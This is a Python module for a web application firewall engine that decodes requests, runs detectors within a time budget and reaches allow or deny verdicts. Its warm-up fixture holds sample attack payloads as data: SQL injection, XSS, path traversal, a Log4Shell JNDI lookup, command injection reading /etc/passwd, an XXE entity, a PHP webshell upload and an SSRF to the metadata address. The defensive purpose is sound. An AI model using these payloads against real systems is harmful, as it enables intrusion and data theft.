"""The engine: Request → Inputs → Findings → Verdict, with no gRPC or Envoy in it.

One Engine holds one compiled configuration. Reloading builds a new Engine and
swaps a single reference; checks in flight finish on the old one.

Stages run in order over a CheckContext. Each may add findings, or settle the
decision outright (an allow-listed or blocked actor); after the verdict, every
stage sees it (`observe`) to learn or to update risk.
"""
from __future__ import annotations

import collections
import logging
import threading
import time
import zlib
from dataclasses import dataclass, field
from typing import Any, Callable, Protocol, Sequence

from extauthz.config import Config, ConfigError, ServicePolicy
from extauthz.decode import DecodeLimits, Input, extract
from extauthz.detect import DetectorSet
from extauthz.detect.secrets import generated_secrets, relax_generated_secrets
from extauthz.finding import Finding
from extauthz.lang.markup import mask_tags
from extauthz.request import Request
from extauthz.verdict import Action, Decision, PolicyDecider, Verdict

log = logging.getLogger("extauthz.engine")

# Called with the kind of every failure (engine, adapter, response): the server's metrics.
FAILURE_LISTENERS: list[Callable[[str], None]] = []


@dataclass(slots=True)
class CheckContext:
    request: Request
    policy: PolicyDecider
    now: float
    inputs: list[Input] = field(default_factory=list)
    findings: list[Finding] = field(default_factory=list)
    # A stage that settles the decision sets this; later inspecting stages are skipped.
    settled: tuple[Decision, Action, str] | None = None
    scratch: dict[str, Any] = field(default_factory=dict)  # per-check data shared by stages


class Stage(Protocol):
    name: str

    def inspect(self, ctx: CheckContext) -> None: ...

    def observe(self, ctx: CheckContext, verdict: Verdict) -> None: ...


BIG_REQUEST = 16384  # bytes of path, query and body above which decoding is timed
BIG_HEADERS = 64  # or header names
DECODE_FREE_MS = 2.0  # decoding CPU a request may spend before it shortens the detector budget


class DetectionStage:
    """Parse and decode the request, then run the policy's detectors on its Inputs."""

    name = "detect"

    def __init__(self, config: Config, limits: DecodeLimits | None = None) -> None:
        self.limits = limits if limits is not None else config.limits
        self._sets: dict[tuple[tuple[str, bool], ...], DetectorSet] = {}
        for key, pol in [("defaults", config.defaults), *((f"services.{n}", p) for n, p in config.services.items())]:
            self.detectors_for(pol, key)  # compile all up front: a bad toggle fails the load

    def detectors_for(self, policy: ServicePolicy, key: str = "") -> DetectorSet:
        toggles = tuple(sorted(policy.detectors.items()))
        ds = self._sets.get(toggles)
        if ds is None:
            try:
                ds = DetectorSet.from_toggles(dict(toggles))
            except KeyError as exc:
                from extauthz.detect import REGISTRY
                raise ConfigError(f"no detector named {exc.args[0]!r} (known: {', '.join(sorted(REGISTRY))})",
                                  f"{key}.detectors") from None
            self._sets[toggles] = ds
        return ds

    def inspect(self, ctx: CheckContext) -> None:
        pol = ctx.policy.policy
        request = ctx.request
        # Decoding and detection have budgets of their own; on a big request (where decoding
        # can cost milliseconds: 128 KiB of `%26`) decoding's CPU beyond DECODE_FREE_MS comes
        # out of the detector budget, down to a quarter of it, so one request's engine time
        # stays near detect_budget_ms + DECODE_FREE_MS. Small requests read no CPU clock.
        big = (len(request.body) + len(request.query) + len(request.path) > BIG_REQUEST
               or len(request.headers) > BIG_HEADERS)
        t0 = time.thread_time() if big else 0.0
        extraction = extract(request, self.limits, pol.body_limit)
        ctx.inputs = extraction.inputs
        base = pol.detect_budget_ms or self.limits.detect_budget_ms
        budget = detect_budget(base, extraction.inputs, self.limits)
        if big:
            over = (time.thread_time() - t0) * 1000.0 - DECODE_FREE_MS
            if over > 0:
                budget = max(budget / 4, budget - over)
                base = min(base, budget)
        # high findings in a generated password (relaxed below) do not withdraw the allowance
        spare = generated_secrets(extraction.inputs) if budget > base else ()
        found = extraction.findings + self.detectors_for(pol).scan(request, extraction.inputs, budget, base, spare,
                                                                   self.limits.detect_wall_max_ms)
        ctx.findings.extend(relax_generated_secrets(found, extraction.inputs))

    def observe(self, ctx: CheckContext, verdict: Verdict) -> None:
        pass

    def warm_up(self) -> None:
        """Run decode and every compiled detector set once on representative requests.

        Anything a decoder or detector loads or compiles lazily then happens at
        engine build, not on a user's first request, which Envoy would time out
        (ext_authz timeouts are a fraction of a second).
        """
        for ds in self._sets.values():
            for request in _WARM_UP_REQUESTS:
                ds.scan(request, extract(request, self.limits, len(request.body)).inputs)


TEXT_MIN = 1024  # characters of a value before it can earn the long-text allowance
TEXT_SAMPLE = 8192  # characters of it whose variety is measured (deflate: about 10 µs)
# Characters of code and markup syntax (double quotes, shell and SQL operators, brackets,
# escapes; not the apostrophe, which English writes in "don't"), per character of the words
# outside HTML tags: prose 0.7 % (median of 2-12 KiB texts; 99th percentile 1.5 %),
# documents 4 % (97 % of them under 12.5 %), attack tokens repeated mostly over 12.5 %.
_SYNTAX = "\"<>;|&$`(){}[]%=\\"


def reads_as_text(value: str) -> bool:
    """Words with little syntax between them: read without its HTML tags and comments
    (extauthz.lang.markup.mask_tags: a rich-text document's markup is not its text), the
    words average 2 to 11 characters (prose about 6), syntax characters are fewer than 1 in
    8 of the words' characters, and it is no repetition (deflate keeps 5 % or more of it)."""
    # Writing is varied: deflate keeps 11 % or more of a document, 38 % of prose; a unit
    # repeated (`ﷺ<` × 4,000: NFKC spells the ligature as four Arabic words) under 2 %.
    # Checked first: it is C speed, and what fails it skips the markup walk below.
    data = value[:TEXT_SAMPLE].encode("utf-8", "surrogatepass")
    if len(zlib.compress(data, 1)) * 20 < len(data):
        return False
    text = mask_tags(value)
    words = text.split()
    if not words:
        return False
    letters = sum(map(len, words))
    if not 2 * len(words) <= letters <= 11 * len(words):
        return False
    syntax = 0
    for c in _SYNTAX:
        syntax += text.count(c)
    return syntax * 8 <= letters


# Text is sent as it is written: a value that needed JavaScript escapes, base64 or a JWT
# undone to read as words (`\u003c` × 1,000 after an Arabic ligature that NFKC spells as
# four words) earns no allowance.
_WRITTEN = frozenset({"js", "base64", "jwt"})


def detect_budget(base_ms: float, inputs: Sequence[Input], limits: DecodeLimits) -> float:
    """The detector budget of a request whose values are `inputs`: `base_ms`, plus
    limits.detect_budget_per_kib_ms for each KiB of long text (values that
    reads_as_text) beyond the first, up to limits.detect_budget_max_ms (never below
    `base_ms`). A long comment costs the detectors milliseconds per KiB; a search box,
    an API call and hostile input (syntax dense, or found high at once: DetectorSet.scan
    then withdraws the addition) keep `base_ms`."""
    per_kib = limits.detect_budget_per_kib_ms
    if per_kib <= 0 or base_ms >= limits.detect_budget_max_ms:
        return base_ms
    text = 0
    for inp in inputs:
        if len(inp.value) >= TEXT_MIN and _WRITTEN.isdisjoint(inp.chain) and reads_as_text(inp.value):
            text += len(inp.value)
    if text <= 1024:
        return base_ms
    return min(limits.detect_budget_max_ms, base_ms + per_kib * (text - 1024) / 1024)


def _warm_up_requests() -> tuple[Request, ...]:
    form = {"content-type": ("application/x-www-form-urlencoded",), "user-agent": ("Mozilla/5.0 (X11) Firefox/128.0",),
            "cookie": ("sid=abc; theme=dark",), "referer": ("https://example.com/a?b=c",)}
    js = {"content-type": ("application/json",)}
    xml = {"content-type": ("application/xml",)}
    multipart = {"content-type": ("multipart/form-data; boundary=b",)}
    return (
        Request(path="/a/b.php", query="q=1%27+or+%271%27%3D%271&x=%3Cscript%3Ealert(1)%3C/script%3E&f=../../etc/passwd",
                headers=form),
        Request(method="POST", path="/api", headers=js,
                body=b'{"a": "${jndi:ldap://x/a}", "b": [1, {"$gt": ""}], "c": "; cat /etc/passwd", "d": "aGVsbG8gd29ybGQ="}'),
        Request(method="POST", path="/soap", headers=xml,
                body=b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a b="1">&x;</a>'),
        Request(method="POST", path="/up", headers=multipart,
                body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET[1]); ?>\r\n--b--\r\n'),
        Request(method="POST", path="/f", headers=form, body=b"user=alice&note=hello+world&to=http://169.254.169.254/"),
    )


_WARM_UP_REQUESTS = _warm_up_requests()


class Runtime(Protocol):
    """Long-lived state shared by successive Engines (a reload swaps the Engine, not this).

    Holds the stores (extauthz.store) and anything else that must survive a
    config reload; built once per process by the server (or eval, or a test).
    """

    def close(self) -> None: ...


# Builds one stage from the config, or None when the config leaves it out.
StageFactory = Callable[[Config, "Runtime | None"], "Stage | None"]


def _detection(config: Config, runtime: "Runtime | None") -> Stage:
    return DetectionStage(config)


def _risk(config: Config, runtime: "Runtime | None") -> "Stage | None":
    """Lists always; actor risk only with a runtime holding a state store (extauthz.runtime)."""
    from extauthz.risk.stage import risk_stage
    return risk_stage(config, runtime)


def _profile(config: Config, runtime: "Runtime | None") -> "Stage | None":
    from extauthz.profile.stage import profile_stage  # learned behaviour; needs a Runtime
    return profile_stage(config, runtime)


# The engine's stages in order. Adding a stage: write its module and add its
# factory here. Order matters: a stage that settles the decision early (e.g. a
# blocked actor) must come before the stages it saves the cost of.
STAGE_FACTORIES: list[StageFactory] = [
    _risk,
    _detection,
    _profile,
]


class Engine:
    def __init__(self, config: Config, *, stages: Sequence[Stage] | None = None,
                 clock: Callable[[], float] = time.time, runtime: "Runtime | None" = None) -> None:
        self.config = config
        self.clock = clock
        self._deciders: dict[str, PolicyDecider] = {}
        self._default = PolicyDecider.of("defaults", config.defaults)
        for name, pol in config.services.items():
            d = PolicyDecider.of(name, pol)
            self._deciders[name] = d
            for alias in pol.aliases:
                self._deciders.setdefault(alias, d)
        self.runtime = runtime
        if stages is None:
            stages = [s for s in (factory(config, runtime) for factory in STAGE_FACTORIES) if s is not None]
        self.stages: list[Stage] = list(stages)
        self.failures: collections.Counter[str] = collections.Counter()
        self._failures_lock = threading.Lock()

    def warm_up(self) -> "Engine":
        """Exercise the stateless stages once (see DetectionStage.warm_up); stateful
        stages (profiles, risk) are not fed synthetic traffic. Returns self."""
        for stage in self.stages:
            warm = getattr(stage, "warm_up", None)
            if warm is not None:
                warm()
        return self

    def close(self) -> None:
        """Flush what the stages hold (called when the server stops, not on reload)."""
        for stage in self.stages:
            close = getattr(stage, "close", None)
            if close is not None:
                close()

    def decider_for(self, service: str) -> PolicyDecider:
        return self._deciders.get(service, self._default)

    def check(self, request: Request) -> Verdict:
        decider = self.decider_for(request.service)
        if decider.mode_for(request) == "off":
            verdict = decider.fixed(request, Decision.ALLOW, Action.OFF, "policy mode is off")
        else:
            try:
                verdict = self._run(request, decider)
            except Exception as exc:  # the engine must never take the server down
                verdict = self.failure_verdict(request, decider, exc)
        return verdict

    def _run(self, request: Request, decider: PolicyDecider) -> Verdict:
        ctx = CheckContext(request, decider, request.received_at or self.clock())
        for stage in self.stages:
            stage.inspect(ctx)
            if ctx.settled is not None:
                break
        if ctx.settled is not None:
            decision, action, reason = ctx.settled
            verdict = decider.fixed(request, decision, action, reason, ctx.findings)
        else:
            verdict = decider.decide(request, ctx.findings)
        for stage in self.stages:
            stage.observe(ctx, verdict)
        return verdict

    def failure_verdict(self, request: Request, decider: PolicyDecider | None, exc: BaseException,
                        kind: str = "engine") -> Verdict:
        decider = decider or self._default
        with self._failures_lock:
            self.failures[kind] += 1
        for listener in FAILURE_LISTENERS:
            listener(kind)
        log.error("check failed (%s) for service %r: %s: %s; applying failure decision %r",
                  kind, request.service, type(exc).__name__, exc, decider.policy.failure, exc_info=exc)
        decision = Decision.DENY if decider.policy.failure == "deny" else Decision.ALLOW
        return decider.fixed(request, decision, Action.FAILURE,
                             f"internal error ({type(exc).__name__}); failure decision {decider.policy.failure}")

